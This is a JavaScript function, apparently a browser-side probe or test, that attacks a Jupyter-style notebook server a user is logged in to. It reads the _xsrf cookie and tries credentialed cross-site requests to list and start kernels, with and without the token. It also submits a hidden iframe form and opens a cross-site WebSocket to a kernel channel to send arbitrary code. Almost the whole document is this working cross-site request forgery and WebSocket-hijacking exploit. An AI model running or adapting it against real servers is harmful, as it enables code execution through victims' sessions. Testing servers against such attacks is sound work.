async ([target, channels, code]) => {
    // All that a page can try on a server that its reader is logged in to. What gets
    // through is named; what can be done besides is for the server's side to tell.
    const got = {};
    const kernels = `${target}_live/api/kernels`;
    const xsrf = document.cookie.match(/_xsrf=([^;]*)/)?.[1] ?? "x";
    const attempt = async (name, promise) => {
        const answer = await promise.catch(() => null);
        if (answer?.ok) got[name] = await answer.text();
    };
    const credentials = "include";
    await attempt("page", fetch(target, { credentials }));
    await attempt("list", fetch(kernels, { credentials }));
    await attempt("start", fetch(kernels, { method: "POST", credentials, body: "{}" }));
    await attempt("start with a stolen word", fetch(kernels, {
        method: "POST", credentials, headers: { "X-XSRFToken": xsrf }, body: "{}",
    }));
    await attempt("start unseen", fetch(`${kernels}?_xsrf=${encodeURIComponent(xsrf)}`, {
        method: "POST", mode: "no-cors", credentials, body: "{}",
    }));
    const frame = document.createElement("iframe");
    frame.name = "unseen";
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: kernels, target: "unseen" });
    const word = document.createElement("input");
    Object.assign(word, { name: "_xsrf", value: xsrf });
    form.append(word);
    document.body.append(frame, form);
    form.submit();
    await new Promise((done) => {
        const url = new URL(channels, target);
        const socket = new WebSocket(url.href.replace("http", "ws"));
        socket.onopen = () => { got.socket = true; socket.send(code); };
        socket.onmessage = () => done();
        socket.onerror = () => done();
    });
    await new Promise((done) => setTimeout(done, 1000));
    return got;
}
